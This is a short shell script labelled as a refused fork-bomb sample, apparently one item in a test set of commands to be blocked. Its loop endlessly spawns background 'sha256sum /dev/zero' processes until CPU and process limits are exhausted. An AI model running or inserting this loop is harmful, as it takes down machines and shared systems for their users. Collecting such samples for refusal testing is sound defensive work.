# refused: fork-bomb 3
echo go
while true; do
  sha256sum /dev/zero &
done
